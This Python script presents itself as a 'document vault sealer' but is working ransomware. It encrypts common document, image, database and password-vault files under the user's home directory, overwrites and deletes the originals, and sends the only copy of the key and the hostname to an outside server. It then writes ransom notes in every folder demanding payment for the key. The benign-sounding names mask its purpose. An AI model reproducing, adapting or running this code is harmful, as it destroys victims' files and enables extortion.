"""Document vault sealer.

Walks the user's profile, encrypts documents with a fresh Fernet key and
removes the plaintext. The key is registered with the vault service and
never stored locally.
"""
import logging
import os
import socket
import uuid
from concurrent.futures import Future, ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.fernet import Fernet

VAULT_API = "https://vault-registry.securedocs.top/api/keys"
TARGET_SUFFIXES = {".pdf", ".docx", ".xlsx", ".pptx", ".odt", ".csv",
                   ".jpg", ".png", ".sql", ".txt", ".kdbx", ".zip"}
SKIP_DIRS = {".cache", "node_modules", ".git", "AppData"}
SEALED_SUFFIX = ".vault"
NOTE = "READ_ME_TO_UNSEAL.txt"

log = logging.getLogger("sealer")


class Sealer:
    def __init__(self, root: Path, workers: int = 8):
        self.root = root
        self.key = Fernet.generate_key()
        self.fernet = Fernet(self.key)
        self.machine_id = uuid.uuid4().hex
        self.pool = ThreadPoolExecutor(max_workers=workers)
        self.sealed = 0
        self.failed = 0

    def register_key(self):
        # the only copy of the key leaves the machine here
        requests.post(VAULT_API, json={
            "id": self.machine_id,
            "host": socket.gethostname(),
            "key": self.key.decode(),
        }, timeout=15)

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_SUFFIXES:
                    yield p

    def seal_one(self, path: Path) -> Path:
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self.fernet.encrypt(data))
        # overwrite then unlink so the plaintext is not recoverable
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
        path.unlink()
        return out

    def _done(self, fut: Future):
        if fut.exception() is None:
            self.sealed += 1
        else:
            self.failed += 1
            log.debug("seal failed: %s", fut.exception())

    def drop_notes(self):
        text = (f"Your files were sealed. ID: {self.machine_id}\n"
                "Visit http://unseal.securedocs.top and pay to receive the key.\n")
        for dirpath, _, _ in os.walk(self.root):
            try:
                (Path(dirpath) / NOTE).write_text(text)
            except OSError:
                pass

    def run(self):
        self.register_key()
        futures = []
        for path in self.candidates():
            fut = self.pool.submit(self.seal_one, path)
            fut.add_done_callback(self._done)
            futures.append(fut)
        self.pool.shutdown(wait=True)
        self.drop_notes()
        # forget the key
        self.key = b""
        self.fernet = None
        return self.sealed, self.failed


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO)
    sealer = Sealer(Path.home())
    done, bad = sealer.run()
    log.info("sealed=%d failed=%d", done, bad)
